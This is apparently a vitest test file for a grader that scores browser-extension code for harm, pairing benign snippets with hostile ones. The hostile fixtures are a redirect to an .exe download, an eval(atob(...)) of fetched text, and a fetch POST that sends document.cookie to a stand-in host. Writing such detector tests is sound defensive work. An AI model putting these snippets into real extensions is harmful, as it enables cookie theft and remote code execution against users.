import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* What looked like harm on good extensions of the eighteenth set, each beside what is. */

it('a host that ends like a file is no program', async () => {
  const led = (to: string): string => `button.addEventListener('click', () => { location.href = '${to}'; });`;
  expect(await graded({ content: led('https://www.example.app') })).toMatch(/^A/);
  expect(await graded({ content: led('https://www.example.com/setup.exe') })).not.toMatch(/^A/);
});

it('a window that is opened is no file that is read', async () => {
  const opened = (call: string): string => `${call} x.onload = () => { eval(atob(x.responseText)); }; x.send();`;
  const x = 'const x = new XMLHttpRequest();';
  const shown = `gui.Window.open('about.html', { icon: 'icon.png' }); ${x} document.title = x.responseText;`;
  expect(await graded({ background: shown })).toMatch(/^A/);
  expect(await graded({ background: opened(`${x} x.open('GET', 'icon.png');`) })).not.toMatch(/^A/);
});

it('what is searched for is not in the answer, what takes its place is', async () => {
  const sent = (call: string): string => `fetch('https://collect.example/x', { method: 'POST', body: 'a x'.${call} });`;
  expect(await graded({ content: sent("replace(document.cookie, '')") })).toMatch(/^A/);
  expect(await graded({ content: sent("replace('x', document.cookie)") })).toBe('F');
});
